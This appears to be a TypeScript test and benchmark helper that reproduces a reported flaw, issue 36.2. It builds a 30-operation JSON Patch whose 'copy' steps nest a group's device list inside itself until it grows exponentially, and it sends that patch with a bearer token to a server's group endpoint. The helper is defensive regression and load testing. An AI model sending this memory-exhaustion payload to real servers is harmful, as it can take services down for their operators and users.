/**
 * The JSON Patch that doubled a group thirty times (issue 36.2): each `copy` of `/devices` into
 * `/devices/0` puts the whole list inside itself, so a 1.7 KB group grows to 2^30 times its size.
 * For the tests of api/patch.ts and for benchmarks that send it while other traffic runs.
 */

/** `copies` operations, each copying the array at `pointer` into its own first element. */
export function copyDoublingPatch(copies = 30, pointer = '/devices'): { op: 'copy'; from: string; path: string }[] {
  return Array.from({ length: copies }, () => ({ op: 'copy' as const, from: pointer, path: `${pointer}/0` }));
}

export interface PatchAttackAnswer {
  status: number;
  body: { success?: boolean; code?: string; error?: string; details?: Record<string, unknown> } | string;
  tookMs: number;
}

/**
 * Sends the 30-copy patch to `PATCH /api/groups/{groupId}` of the trackgate at `base` with `token`
 * (a user with `write`, or an admin); resolves with the answer and how long it took, or rejects
 * after `timeoutMs` without one.
 */
export async function sendGroupCopyAttack(
  base: string,
  token: string,
  groupId: string,
  timeoutMs = 30_000,
): Promise<PatchAttackAnswer> {
  const started = performance.now();
  const res = await fetch(`${base}/api/groups/${encodeURIComponent(groupId)}`, {
    method: 'PATCH',
    headers: { 'content-type': 'application/json-patch+json', authorization: `Bearer ${token}` },
    body: JSON.stringify(copyDoublingPatch()),
    signal: AbortSignal.timeout(timeoutMs),
  });
  const text = await res.text();
  let body: PatchAttackAnswer['body'] = text;
  try {
    body = JSON.parse(text);
  } catch {
    /* not JSON: kept as text for the caller to show */
  }
  return { status: res.status, body, tookMs: performance.now() - started };
}
